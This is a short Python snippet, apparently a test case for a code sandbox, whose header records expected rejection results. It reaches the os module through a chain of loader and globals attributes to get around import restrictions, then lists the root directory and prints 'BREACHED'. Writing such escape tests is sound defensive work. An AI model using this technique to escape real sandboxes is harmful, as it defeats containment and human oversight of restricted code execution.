# fence: rejected | walls: error
import client_sdk
import client_sdk.rows as rows
os = rows.difflib.__loader__.__init__.__globals__["sys"].modules["os"]
print("BREACHED" if os.listdir("/") else "empty")
